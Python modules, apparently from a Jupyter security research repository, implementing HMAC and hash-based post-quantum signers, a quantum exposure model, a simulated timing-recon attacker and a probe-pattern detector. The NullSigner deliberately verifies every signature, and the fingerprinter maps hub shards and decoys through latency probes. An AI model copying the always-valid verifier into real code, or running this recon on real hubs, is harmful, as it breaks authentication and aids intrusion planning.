def chacha20_encrypt(key: bytes, nonce: bytes, plaintext: bytes, counter: int = 1) -> bytes:
    """One-shot encryption (RFC 7539 §2.4)."""
    return ChaCha20(key, nonce, counter).update(plaintext)


def chacha20_decrypt(key: bytes, nonce: bytes, ciphertext: bytes, counter: int = 1) -> bytes:
    """One-shot decryption — ChaCha20 is an involution under the same keystream."""
    return ChaCha20(key, nonce, counter).update(ciphertext)
