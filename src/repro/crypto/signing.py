"""Crypto-agile message signing.

Jupyter signs every kernel-protocol message with HMAC-SHA256 over the
concatenated JSON segments (``jupyter_client.session.Session``).  The
paper's §IV.B argues this layer must become *crypto-agile* so deployments
can migrate to quantum-resistant schemes.  We model that with a single
:class:`Signer` interface, a process-wide scheme registry, and three
classical implementations; the hash-based post-quantum signers in
:mod:`repro.crypto.pq` plug into the same registry.

``NullSigner`` deliberately implements the degenerate "empty key" mode
that real Jupyter falls into when ``Session.key`` is blank — one of the
misconfigurations the scanner flags (see EXP-MISCFG).
"""

from __future__ import annotations

import hashlib
import hmac
from abc import ABC, abstractmethod
from typing import Callable, Dict, Iterable


class Signer(ABC):
    """Signs and verifies a sequence of byte segments."""

    #: registry key; subclasses override.
    scheme: str = "abstract"
    #: True if the scheme survives a cryptanalytically-relevant quantum computer.
    quantum_resistant: bool = False

    @abstractmethod
    def sign(self, segments: Iterable[bytes]) -> bytes:
        """Return a signature (hex- or raw-encoded bytes) over ``segments``."""

    @abstractmethod
    def verify(self, segments: Iterable[bytes], signature: bytes) -> bool:
        """Constant-time-ish verification of ``signature`` over ``segments``."""

    @property
    def signature_size(self) -> int:
        """Size in bytes of a signature over an empty message (for benches)."""
        return len(self.sign([b""]))


class HMACSigner(Signer):
    """HMAC-SHA256, hex digest — byte-compatible with Jupyter's default."""

    scheme = "hmac-sha256"
    quantum_resistant = False  # key exchange/harvest concerns, per paper §IV.B

    def __init__(self, key: bytes):
        if not isinstance(key, bytes):
            raise TypeError("HMAC key must be bytes")
        self.key = key

    def sign(self, segments: Iterable[bytes]) -> bytes:
        h = hmac.new(self.key, digestmod=hashlib.sha256)
        for seg in segments:
            h.update(seg)
        return h.hexdigest().encode("ascii")

    def verify(self, segments: Iterable[bytes], signature: bytes) -> bool:
        return hmac.compare_digest(self.sign(segments), signature)


class HMACSHA3Signer(Signer):
    """HMAC-SHA3-256: a drop-in hash upgrade (still not PQ for key harvest)."""

    scheme = "hmac-sha3-256"
    quantum_resistant = False

    def __init__(self, key: bytes):
        self.key = key

    def sign(self, segments: Iterable[bytes]) -> bytes:
        h = hmac.new(self.key, digestmod=hashlib.sha3_256)
        for seg in segments:
            h.update(seg)
        return h.hexdigest().encode("ascii")

    def verify(self, segments: Iterable[bytes], signature: bytes) -> bool:
        return hmac.compare_digest(self.sign(segments), signature)


class NullSigner(Signer):
    """The 'no key configured' degenerate mode: empty signature, always valid.

    Real Jupyter behaves this way when ``Session.key == b""``; messages fly
    unsigned.  The misconfiguration scanner and the account-takeover
    attack both exploit this object.
    """

    scheme = "none"
    quantum_resistant = False

    def sign(self, segments: Iterable[bytes]) -> bytes:
        return b""

    def verify(self, segments: Iterable[bytes], signature: bytes) -> bool:
        return True


# --------------------------------------------------------------------------
# Scheme registry — the "crypto agility" surface the paper calls for.
# --------------------------------------------------------------------------

_REGISTRY: Dict[str, Callable[[bytes], Signer]] = {}


def register_signer(scheme: str, factory: Callable[[bytes], Signer]) -> None:
    """Register a signer factory taking a key and returning a Signer."""
    _REGISTRY[scheme] = factory


def get_signer(scheme: str, key: bytes = b"") -> Signer:
    """Instantiate a registered signing scheme.

    >>> get_signer("hmac-sha256", b"k").scheme
    'hmac-sha256'
    """
    try:
        factory = _REGISTRY[scheme]
    except KeyError:
        raise KeyError(f"unknown signing scheme {scheme!r}; known: {sorted(_REGISTRY)}") from None
    return factory(key)


def available_schemes() -> list[str]:
    return sorted(_REGISTRY)


register_signer("hmac-sha256", lambda key: HMACSigner(key))
register_signer("hmac-sha3-256", lambda key: HMACSHA3Signer(key))
register_signer("none", lambda key: NullSigner())
