"""Harvest-now-decrypt-later (HNDL) exposure model.

The paper warns that Jupyter traffic recorded today can be decrypted once
a cryptanalytically relevant quantum computer (CRQC) exists.  This module
quantifies that risk for a traffic corpus: each record carries a capture
time and a *secrecy lifetime* (how long its contents stay sensitive —
e.g. unpublished model weights vs. ephemeral status pings).  A record is
*exposed* if the CRQC arrives before capture_time + lifetime AND the
record was protected by a non-quantum-resistant scheme.

EXP-PQC sweeps the CRQC arrival year and reports the exposed fraction per
signing/encryption scheme, reproducing the qualitative argument of
§IV.B: migrating early shrinks the exposure window; hash-based schemes
zero it out.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List


@dataclass(frozen=True)
class TrafficRecord:
    """One captured flow or message batch."""

    capture_year: float
    secrecy_lifetime_years: float
    scheme: str  # signing/encryption scheme protecting it
    sensitivity: str = "research-data"  # label only; used in breakdowns
    size_bytes: int = 0

    def exposed_at(self, crqc_year: float, quantum_resistant_schemes: frozenset[str]) -> bool:
        """True if a CRQC arriving at ``crqc_year`` can exploit this record."""
        if self.scheme in quantum_resistant_schemes:
            return False
        return crqc_year < self.capture_year + self.secrecy_lifetime_years


#: Schemes from the crypto registry considered quantum-resistant.
DEFAULT_QR_SCHEMES = frozenset({"lamport", "wots", "merkle"})


@dataclass
class HNDLModel:
    """Exposure calculator over a corpus of :class:`TrafficRecord`."""

    records: List[TrafficRecord] = field(default_factory=list)
    qr_schemes: frozenset = DEFAULT_QR_SCHEMES

    def add(self, record: TrafficRecord) -> None:
        self.records.append(record)

    def extend(self, records: Iterable[TrafficRecord]) -> None:
        self.records.extend(records)

    def exposed_fraction(self, crqc_year: float) -> float:
        """Fraction of records exposed if the CRQC lands at ``crqc_year``."""
        if not self.records:
            return 0.0
        exposed = sum(1 for r in self.records if r.exposed_at(crqc_year, self.qr_schemes))
        return exposed / len(self.records)

    def exposed_bytes(self, crqc_year: float) -> int:
        return sum(r.size_bytes for r in self.records if r.exposed_at(crqc_year, self.qr_schemes))

    def sweep(self, years: Iterable[float]) -> Dict[float, float]:
        """Exposure fraction for each candidate CRQC arrival year."""
        return {y: self.exposed_fraction(y) for y in years}

    def breakdown_by_scheme(self, crqc_year: float) -> Dict[str, float]:
        """Per-scheme exposed fraction at ``crqc_year``."""
        by_scheme: Dict[str, List[TrafficRecord]] = {}
        for r in self.records:
            by_scheme.setdefault(r.scheme, []).append(r)
        out = {}
        for scheme, recs in sorted(by_scheme.items()):
            exposed = sum(1 for r in recs if r.exposed_at(crqc_year, self.qr_schemes))
            out[scheme] = exposed / len(recs)
        return out

    def migration_benefit(self, migrate_year: float, crqc_year: float) -> float:
        """Exposure reduction from migrating all capture >= migrate_year to PQ.

        Returns the difference between the status-quo exposed fraction and
        the counterfactual where every record captured at or after
        ``migrate_year`` used a quantum-resistant scheme.
        """
        if not self.records:
            return 0.0
        baseline = self.exposed_fraction(crqc_year)
        exposed_after = 0
        for r in self.records:
            scheme_qr = r.scheme in self.qr_schemes or r.capture_year >= migrate_year
            if not scheme_qr and crqc_year < r.capture_year + r.secrecy_lifetime_years:
                exposed_after += 1
        return baseline - exposed_after / len(self.records)
