"""Hash-based post-quantum signatures: Lamport, WOTS, and Merkle many-time.

The paper's §IV.B names two quantum threats to Jupyter: *harvest now,
decrypt later* and *digital signature spoofing*.  Hash-based signatures
are the standard conservative answer to the latter (they reduce to the
preimage resistance of SHA-256, which Grover only square-roots).  These
implementations are textbook-faithful and self-contained:

- :class:`LamportOTS` — Lamport-Diffie one-time signatures: 256 secret
  pairs of 32-byte values; the signature reveals one of each pair per
  message-digest bit.
- :class:`WOTS` — Winternitz OTS with parameter ``w``: hash chains let
  several digits share one chain, trading signature size for hashing.
  Includes the standard checksum that prevents digit-increment forgery.
- :class:`MerkleSigner` — a Merkle tree over 2**h WOTS leaf keys,
  yielding a many-time scheme (XMSS-lite, without the bitmask/tweak
  hardening) with authentication paths.

All three register with the crypto-agility registry so the messaging
layer can swap them in for HMAC — exactly the migration pathway the
paper's discussion section proposes.  EXP-PQC benchmarks their signature
size and sign/verify cost against HMAC-SHA256.
"""

from __future__ import annotations

import hashlib
import hmac as _hmac
from dataclasses import dataclass
from typing import Iterable, List

from repro.crypto.signing import Signer, register_signer


def _H(data: bytes) -> bytes:
    return hashlib.sha256(data).digest()


def _digest_segments(segments: Iterable[bytes]) -> bytes:
    h = hashlib.sha256()
    for seg in segments:
        h.update(seg)
    return h.digest()


def _prf(seed: bytes, index: int) -> bytes:
    """Deterministic secret expansion: SK_i = HMAC(seed, index)."""
    return _hmac.new(seed, index.to_bytes(4, "big"), hashlib.sha256).digest()


# --------------------------------------------------------------------------
# Lamport one-time signatures
# --------------------------------------------------------------------------


class LamportOTS(Signer):
    """Lamport-Diffie OTS over SHA-256 digests.

    Key material is derived from a 32-byte seed, so keys are cheap to
    store and regenerate.  Signing a *second distinct* message with the
    same instance raises ``RuntimeError`` — one-time means one time, and
    the tests assert we enforce it.
    """

    scheme = "lamport"
    quantum_resistant = True

    N_BITS = 256

    def __init__(self, seed: bytes):
        if len(seed) < 16:
            raise ValueError("Lamport seed must be at least 16 bytes")
        self.seed = seed
        # sk[bit][b] for bit in 0..255, b in {0,1}
        self._sk = [(_prf(seed, 2 * i), _prf(seed, 2 * i + 1)) for i in range(self.N_BITS)]
        self.public_key = b"".join(_H(s0) + _H(s1) for s0, s1 in self._sk)
        self._used_digest: bytes | None = None

    def sign(self, segments: Iterable[bytes]) -> bytes:
        digest = _digest_segments(segments)
        if self._used_digest is not None and self._used_digest != digest:
            raise RuntimeError("Lamport key reuse: one-time key already signed a different message")
        self._used_digest = digest
        out = bytearray()
        for i in range(self.N_BITS):
            bit = (digest[i // 8] >> (7 - i % 8)) & 1
            out += self._sk[i][bit]
        return bytes(out)

    def verify(self, segments: Iterable[bytes], signature: bytes) -> bool:
        if len(signature) != self.N_BITS * 32:
            return False
        digest = _digest_segments(segments)
        pk = self.public_key
        for i in range(self.N_BITS):
            bit = (digest[i // 8] >> (7 - i % 8)) & 1
            revealed = signature[i * 32 : (i + 1) * 32]
            expected = pk[i * 64 + bit * 32 : i * 64 + bit * 32 + 32]
            if _H(revealed) != expected:
                return False
        return True


# --------------------------------------------------------------------------
# Winternitz one-time signatures
# --------------------------------------------------------------------------


class WOTS(Signer):
    """Winternitz OTS with chain width ``w`` (a power of two, default 16).

    The 256-bit digest splits into ``l1`` base-w digits; a checksum of
    ``l2`` digits prevents the increase-a-digit forgery.  Signature size
    is ``(l1+l2)*32`` bytes — 8.5x smaller than Lamport at w=16.
    """

    scheme = "wots"
    quantum_resistant = True

    def __init__(self, seed: bytes, w: int = 16):
        if w < 2 or w & (w - 1):
            raise ValueError("w must be a power of two >= 2")
        self.seed = seed
        self.w = w
        self.log_w = w.bit_length() - 1
        self.l1 = (256 + self.log_w - 1) // self.log_w
        max_checksum = self.l1 * (w - 1)
        self.l2 = (max_checksum.bit_length() + self.log_w - 1) // self.log_w
        self.l = self.l1 + self.l2
        self._sk = [_prf(seed, i) for i in range(self.l)]
        self.public_key = b"".join(self._chain(sk, 0, w - 1) for sk in self._sk)
        self._used_digest: bytes | None = None

    def _chain(self, start: bytes, begin: int, steps: int) -> bytes:
        """Apply the hash chain ``steps`` times starting from position ``begin``."""
        out = start
        for _ in range(steps):
            out = _H(out)
        return out

    def _digits(self, digest: bytes) -> List[int]:
        value = int.from_bytes(digest, "big")
        digits = []
        for _ in range(self.l1):
            digits.append(value & (self.w - 1))
            value >>= self.log_w
        digits.reverse()
        checksum = sum(self.w - 1 - d for d in digits)
        cs_digits = []
        for _ in range(self.l2):
            cs_digits.append(checksum & (self.w - 1))
            checksum >>= self.log_w
        cs_digits.reverse()
        return digits + cs_digits

    def sign(self, segments: Iterable[bytes]) -> bytes:
        digest = _digest_segments(segments)
        if self._used_digest is not None and self._used_digest != digest:
            raise RuntimeError("WOTS key reuse: one-time key already signed a different message")
        self._used_digest = digest
        digits = self._digits(digest)
        return b"".join(self._chain(self._sk[i], 0, d) for i, d in enumerate(digits))

    def verify(self, segments: Iterable[bytes], signature: bytes) -> bool:
        if len(signature) != self.l * 32:
            return False
        digest = _digest_segments(segments)
        digits = self._digits(digest)
        for i, d in enumerate(digits):
            part = signature[i * 32 : (i + 1) * 32]
            tip = self._chain(part, d, self.w - 1 - d)
            if tip != self.public_key[i * 32 : (i + 1) * 32]:
                return False
        return True


# --------------------------------------------------------------------------
# Merkle many-time signatures (XMSS-lite)
# --------------------------------------------------------------------------


@dataclass
class MerkleSignature:
    """Decoded Merkle signature: leaf index, WOTS sig, and auth path."""

    leaf_index: int
    wots_signature: bytes
    auth_path: List[bytes]

    def encode(self) -> bytes:
        out = self.leaf_index.to_bytes(4, "big")
        out += len(self.wots_signature).to_bytes(4, "big") + self.wots_signature
        out += len(self.auth_path).to_bytes(1, "big")
        for node in self.auth_path:
            out += node
        return out

    @classmethod
    def decode(cls, data: bytes) -> "MerkleSignature":
        leaf = int.from_bytes(data[:4], "big")
        sig_len = int.from_bytes(data[4:8], "big")
        sig = data[8 : 8 + sig_len]
        off = 8 + sig_len
        n_path = data[off]
        off += 1
        path = [data[off + 32 * i : off + 32 * (i + 1)] for i in range(n_path)]
        return cls(leaf, sig, path)


class MerkleSigner(Signer):
    """Merkle tree of ``2**height`` WOTS keys: sign up to 2**height messages.

    The root hash is the long-lived public key.  Each signature carries
    the leaf's WOTS public key reconstruction plus the sibling path up to
    the root.  Exhausting all leaves raises ``RuntimeError`` (statefulness
    is the operational price of hash-based schemes — EXP-PQC reports it).
    """

    scheme = "merkle"
    quantum_resistant = True

    def __init__(self, seed: bytes, height: int = 3, w: int = 16):
        if height < 1 or height > 16:
            raise ValueError("height must be in [1, 16]")
        self.seed = seed
        self.height = height
        self.capacity = 1 << height
        self._next_leaf = 0
        self._leaves = [WOTS(_prf(seed, 1000 + i), w=w) for i in range(self.capacity)]
        # Build the tree bottom-up; level 0 = leaf hashes.
        self._levels: List[List[bytes]] = [[_H(leaf.public_key) for leaf in self._leaves]]
        while len(self._levels[-1]) > 1:
            prev = self._levels[-1]
            self._levels.append([_H(prev[i] + prev[i + 1]) for i in range(0, len(prev), 2)])
        self.public_key = self._levels[-1][0]

    @property
    def remaining(self) -> int:
        return self.capacity - self._next_leaf

    def _auth_path(self, leaf_index: int) -> List[bytes]:
        path = []
        idx = leaf_index
        for level in self._levels[:-1]:
            sibling = idx ^ 1
            path.append(level[sibling])
            idx >>= 1
        return path

    def sign(self, segments: Iterable[bytes]) -> bytes:
        if self._next_leaf >= self.capacity:
            raise RuntimeError(f"Merkle key exhausted after {self.capacity} signatures")
        leaf = self._next_leaf
        self._next_leaf += 1
        wots = self._leaves[leaf]
        sig = wots.sign(segments)
        # Append the full WOTS public key so verification needs only the root.
        payload = MerkleSignature(leaf, sig + wots.public_key, self._auth_path(leaf))
        return payload.encode()

    def verify(self, segments: Iterable[bytes], signature: bytes) -> bool:
        try:
            ms = MerkleSignature.decode(signature)
        except (IndexError, ValueError):
            return False
        if not (0 <= ms.leaf_index < self.capacity):
            return False
        # Split the concatenated (wots_sig || wots_pk).
        ref = self._leaves[0]
        sig_len = ref.l * 32
        wots_sig, wots_pk = ms.wots_signature[:sig_len], ms.wots_signature[sig_len:]
        if len(wots_pk) != ref.l * 32:
            return False
        # Recompute the chain tips from the signature and compare to the
        # claimed public key, then hash the pk up the auth path to the root.
        digest = _digest_segments(segments)
        digits = ref._digits(digest)
        for i, d in enumerate(digits):
            part = wots_sig[i * 32 : (i + 1) * 32]
            tip = ref._chain(part, d, ref.w - 1 - d)
            if tip != wots_pk[i * 32 : (i + 1) * 32]:
                return False
        node = _H(wots_pk)
        idx = ms.leaf_index
        if len(ms.auth_path) != self.height:
            return False
        for sibling in ms.auth_path:
            node = _H(sibling + node) if idx & 1 else _H(node + sibling)
            idx >>= 1
        return node == self.public_key


register_signer("lamport", lambda key: LamportOTS(key or b"\x00" * 32))
register_signer("wots", lambda key: WOTS(key or b"\x00" * 32))
register_signer("merkle", lambda key: MerkleSigner(key or b"\x00" * 32))
