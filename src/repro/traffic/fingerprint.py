"""Timing recon: classify a hub fleet from response latency alone.

The sharded-geo topologies leak structure through the side channel the
paper's taxonomy stops short of: per-link latency (``GEO_LINKS``) makes
each front door's round-trip time a fingerprint, and decoy tenants —
indistinguishable by status code once the hub config is open — sit
behind a backend leg with a distinct service-time signature.  A
:class:`TrafficFingerprinter` recovers both with *zero* 403s:

1. **Calibrate** — a short train of unauthenticated ``GET /hub/api``
   probes at each published front door; the minimum round trip is that
   shard's latency floor (min, not mean: queueing and jitter only ever
   add).
2. **Induce** — per tenant, a fixed-cadence train of ``GET
   /user/<t>/api/status`` probes through the tenant's front door,
   keeping the per-probe round trip and response size.
3. **Classify** — each tenant is assigned the *largest calibrated
   floor that does not exceed its round trip* (latency never
   undershoots the floor, so nearest-neighbor would misread slow
   backends as farther shards); the residual above the floor is the
   backend leg, and a residual past ``decoy_residual_floor`` marks a
   suspected decoy (instrumented honeypots pay a recording/service
   overhead real single-user servers do not).

Everything is read from the attacker's own traffic — SimClock deltas
stamped on :class:`~repro.adversary.view.FeedbackEvent` — never from
host identities (the front doors model opaque anycast/DNS) and never
from defender state.  Against a :class:`~repro.traffic.padding
.PaddingPolicy` the same pipeline degrades to near-chance: bucketed
sizes carry no signal and the jitter spread swamps both the shard
separation and the decoy residual.  The induced cadence is also
exactly what :class:`~repro.traffic.pattern.TrafficPatternDetector`
matches — recon is no longer free.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Sequence, Tuple

#: Floors within this of a measured RTT still count as "not exceeding"
#: it (guards the zero-residual case against float noise).
_FLOOR_EPS = 1e-6


@dataclass
class TenantReading:
    """The per-tenant sample train, attacker-side raw data."""

    tenant: str
    rtts: List[float] = field(default_factory=list)
    sizes: List[int] = field(default_factory=list)
    kinds: List[str] = field(default_factory=list)

    @property
    def floor_rtt(self) -> Optional[float]:
        ok = [r for r, k in zip(self.rtts, self.kinds) if k == "ok" and r > 0]
        return min(ok) if ok else None

    def to_dict(self) -> Dict[str, Any]:
        return {
            "tenant": self.tenant,
            "rtts": [round(r, 6) for r in self.rtts],
            "sizes": list(self.sizes),
            "kinds": list(self.kinds),
        }


@dataclass
class FingerprintVerdict:
    """What the recon concluded, in comparable (byte-stable) form."""

    shard_bases: Dict[str, float]
    shard_map: Dict[str, str]          # tenant -> shard label
    residuals: Dict[str, float]        # tenant -> rtt above assigned floor
    suspected_decoys: List[str]
    readings: List[TenantReading]
    probes: int = 0
    denied: int = 0                    # plain 403s observed (should be 0)
    blocked: int = 0                   # containment 403s / severed channels
    contained: bool = False            # recon was cut short by the defense

    def to_dict(self) -> Dict[str, Any]:
        return {
            "shard_bases": {k: round(v, 6) for k, v in
                            sorted(self.shard_bases.items())},
            "shard_map": dict(sorted(self.shard_map.items())),
            "residuals": {k: round(v, 6) for k, v in
                          sorted(self.residuals.items())},
            "suspected_decoys": sorted(self.suspected_decoys),
            "readings": [r.to_dict() for r in self.readings],
            "probes": self.probes,
            "denied": self.denied,
            "blocked": self.blocked,
            "contained": self.contained,
        }


class TrafficFingerprinter:
    """Drives one recon pass through an ``AttackSurfaceView``.

    The view is duck-typed (anything with ``probe``/``probe_front_door``
    and a scenario exposing ``run``/front doors works); all timing comes
    from the elapsed/size fields the view stamps on feedback events.
    """

    def __init__(self, view, *, probes_per_tenant: int = 6,
                 base_probes: int = 3, gap: float = 0.5,
                 path: str = "/api/status",
                 decoy_residual_floor: float = 0.014):
        if probes_per_tenant < 1 or base_probes < 1:
            raise ValueError("fingerprinting needs at least one probe per train")
        self.view = view
        self.probes_per_tenant = probes_per_tenant
        self.base_probes = base_probes
        self.gap = gap
        self.path = path
        self.decoy_residual_floor = decoy_residual_floor

    # -- plumbing -------------------------------------------------------------
    def _front_doors(self) -> List[Tuple[str, Any]]:
        """(label, host) per published front door.  Labels are the
        attacker's own ordinals — classification never reads the
        defender's shard names; scoring maps labels to truth later."""
        scenario = self.view.scenario
        shards = getattr(scenario, "shards", None)
        if shards:
            return [(f"door{i}", s.host) for i, s in enumerate(shards)]
        proxy = getattr(scenario, "proxy", None)
        host = proxy.host if proxy is not None else scenario.server_host
        return [("door0", host)]

    # -- the recon pass -------------------------------------------------------
    def run(self, *, source, token: str,
            tenants: Optional[Sequence[str]] = None) -> FingerprintVerdict:
        verdict = FingerprintVerdict(shard_bases={}, shard_map={},
                                     residuals={}, suspected_decoys=[],
                                     readings=[])
        scenario = self.view.scenario
        doors = self._front_doors()

        # 1. Calibrate each front door's latency floor.
        for label, host in doors:
            rtts: List[float] = []
            for _ in range(self.base_probes):
                event = self.view.probe_front_door(source=source, host=host,
                                                   token=token)
                verdict.probes += 1
                self._tally(verdict, event)
                if verdict.contained:
                    return verdict
                if event.kind == "ok" and event.elapsed > 0:
                    rtts.append(event.elapsed)
                scenario.run(self.gap)
            if rtts:
                verdict.shard_bases[label] = min(rtts)
        if not verdict.shard_bases:
            return verdict

        # 2. Induce a probe train per tenant.
        if tenants is None:
            tenants = self.view.enumerate_tenants(source=source, token=token)
        for tenant in tenants:
            reading = TenantReading(tenant=tenant)
            verdict.readings.append(reading)
            for _ in range(self.probes_per_tenant):
                event = self.view.probe(source=source, tenant=tenant,
                                        token=token, path=self.path)
                verdict.probes += 1
                self._tally(verdict, event)
                reading.rtts.append(event.elapsed)
                reading.sizes.append(event.resp_bytes)
                reading.kinds.append(event.kind)
                if verdict.contained:
                    self._classify(verdict, doors)
                    return verdict
                scenario.run(self.gap)
            if all(k == "denied" for k in reading.kinds):
                # A locked-down hub (proxy auth on): every further train
                # would 403 identically — stop burning requests.
                break

        # 3. Classify.
        self._classify(verdict, doors)
        return verdict

    def _tally(self, verdict: FingerprintVerdict, event) -> None:
        if event.kind == "denied":
            verdict.denied += 1
        elif event.kind in ("blocked", "severed"):
            verdict.blocked += 1
            verdict.contained = True

    def _classify(self, verdict: FingerprintVerdict,
                  doors: List[Tuple[str, Any]]) -> None:
        if not verdict.shard_bases:
            return
        floors = sorted(verdict.shard_bases.items(), key=lambda kv: kv[1])
        for reading in verdict.readings:
            rtt = reading.floor_rtt
            if rtt is None:
                continue
            label = floors[0][0]
            for name, floor in floors:
                if floor <= rtt + _FLOOR_EPS:
                    label = name
                else:
                    break
            verdict.shard_map[reading.tenant] = label
            residual = rtt - verdict.shard_bases[label]
            verdict.residuals[reading.tenant] = residual
            if residual >= self.decoy_residual_floor:
                verdict.suspected_decoys.append(reading.tenant)
        verdict.suspected_decoys.sort()
