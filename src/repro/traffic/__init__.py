"""Traffic-analysis side channels: the three-sided subsystem.

- :mod:`repro.traffic.fingerprint` — the attacker: induce request
  patterns, classify per-tenant latency/size distributions into a shard
  map and decoy suspicions (zero 403s).
- :mod:`repro.traffic.pattern` — the defender: recognize the induced
  pattern at the proxy tap and raise ``TRAFFIC_PATTERN`` notices into
  the correlator -> playbook path.
- :mod:`repro.traffic.padding` — the countermeasure: size-bucket
  padding and bounded jitter at the proxy, declared per-world as a
  :class:`PaddingPolicy` on ``WorldSpec``.

``repro traffic --recon/--matrix`` drives the whole loop;
EXP-TRAFFIC / BENCH_TRAFFIC.json measure the detection-vs-throughput
tradeoff.
"""

from repro.traffic.fingerprint import (
    FingerprintVerdict,
    TenantReading,
    TrafficFingerprinter,
)
from repro.traffic.padding import PaddingPolicy, ResponsePadder
from repro.traffic.pattern import ProbeTemplate, TrafficPatternDetector

__all__ = [
    "FingerprintVerdict",
    "PaddingPolicy",
    "ProbeTemplate",
    "ResponsePadder",
    "TenantReading",
    "TrafficFingerprinter",
    "TrafficPatternDetector",
]
