"""Cell-pattern-style detection of induced probe traffic.

The PETS'22 guard-discovery pipeline works by *inducing* a recognizable
cell pattern and classifying it at the other end; the mirror-image
defense is to recognize the induced pattern itself.  A timing
fingerprinter (:mod:`repro.traffic.fingerprint`) must send trains of
near-identical requests at a fixed cadence — that regularity is its
signature, the same way beacon C2 gives itself away by keepalive
periodicity.

:class:`TrafficPatternDetector` consumes the monitor's HTTP request
stream (timestamp, source, path, wire size) and matches it against
:class:`ProbeTemplate` shapes: small GET requests to status-style
endpoints.  A train of ``min_train`` consecutive template matches from
one source whose inter-arrival gaps are metronomic (coefficient of
variation <= ``cv_max``) and whose wire sizes are near-constant raises
a ``TRAFFIC_PATTERN`` notice — high severity, misconfiguration avenue
(recon, like ``PORT_SCAN``), so the stock ``block-hostile-source``
playbook contains the source with no rule changes.

What does NOT fire: the decoy-wary strategy's 3-probe canary bursts
(below ``min_train``), cross-tenant pivot sweeps (varied paths and
sizes break the template), and benign notebook traffic (kernel work
rides WebSockets, and its sparse REST calls are neither metronomic nor
template-shaped).  An attacker can evade by randomizing cadence and
probe shape — at the price of more probes per bit of timing signal;
that arms race is the point.
"""

from __future__ import annotations

import math
from collections import deque
from dataclasses import dataclass
from typing import Deque, Dict, Optional, Tuple

from repro.monitor.anomaly import AnomalyDetector
from repro.monitor.logs import Notice
from repro.taxonomy.oscrp import Avenue


@dataclass(frozen=True)
class ProbeTemplate:
    """The wire shape of one induced-probe family.

    A request matches when its method matches, its wire size (request
    head + body as counted at the tap) is under ``max_wire_bytes``, and
    its path either equals one of ``exact_paths`` or ends with one of
    ``path_suffixes`` — i.e. the status-endpoint probes a timing
    fingerprinter uses because they are cheap, cacheless, and
    authorization-free.
    """

    name: str = "status-probe"
    method: str = "GET"
    exact_paths: Tuple[str, ...] = ("/hub/api", "/hub/api/")
    path_suffixes: Tuple[str, ...] = ("/api/status",)
    max_wire_bytes: int = 512

    def matches(self, method: str, path: str, wire_bytes: int) -> bool:
        if method != self.method or wire_bytes > self.max_wire_bytes:
            return False
        return path in self.exact_paths or path.endswith(self.path_suffixes)


class TrafficPatternDetector(AnomalyDetector):
    """Flags metronomic trains of template-shaped probes per source."""

    name = "traffic-pattern"

    def __init__(self, *, min_train: int = 6, cv_max: float = 0.1,
                 size_jitter_bytes: int = 48, max_gap: float = 30.0,
                 templates: Tuple[ProbeTemplate, ...] = (ProbeTemplate(),),
                 **kw):
        super().__init__(**kw)
        self.min_train = min_train
        self.cv_max = cv_max
        self.size_jitter_bytes = size_jitter_bytes
        self.max_gap = max_gap
        self.templates = templates
        #: src -> recent (ts, wire_bytes, path, template) matches.  A
        #: non-matching request clears the source's train: the induced
        #: pattern is *consecutive* by construction (interleaving decoy
        #: traffic to evade costs the attacker timing precision).
        self._trains: Dict[str, Deque[Tuple[float, int, str, str]]] = {}

    def _template_for(self, method: str, path: str,
                      wire_bytes: int) -> Optional[ProbeTemplate]:
        for template in self.templates:
            if template.matches(method, path, wire_bytes):
                return template
        return None

    def observe_request(self, ts: float, src: str, path: str,
                        wire_bytes: int, method: str = "GET") -> Optional[Notice]:
        template = self._template_for(method, path, wire_bytes)
        train = self._trains.get(src)
        if template is None:
            if train is not None:
                train.clear()
            return None
        if train is None:
            train = self._trains[src] = deque(maxlen=4 * self.min_train)
        train.append((ts, wire_bytes, path, template.name))
        if len(train) < self.min_train:
            return None
        window = list(train)[-self.min_train:]
        gaps = [b[0] - a[0] for a, b in zip(window, window[1:])]
        if max(gaps) > self.max_gap:
            return None
        mean_gap = sum(gaps) / len(gaps)
        if mean_gap <= 0.0:
            return None
        cv = math.sqrt(sum((g - mean_gap) ** 2 for g in gaps)
                       / len(gaps)) / mean_gap
        if cv > self.cv_max:
            return None
        sizes = [w[1] for w in window]
        if max(sizes) - min(sizes) > self.size_jitter_bytes:
            return None
        paths = sorted({w[2] for w in window})
        return self._emit(Notice(
            ts=ts, detector=self.name, name="TRAFFIC_PATTERN", severity="high",
            src=src, avenue=Avenue.MISCONFIGURATION,
            detail={
                "template": window[0][3],
                "train": len(window),
                "mean_gap": round(mean_gap, 4),
                "gap_cv": round(cv, 4),
                "wire_bytes": [min(sizes), max(sizes)],
                "example_paths": paths[:4],
            },
        ))
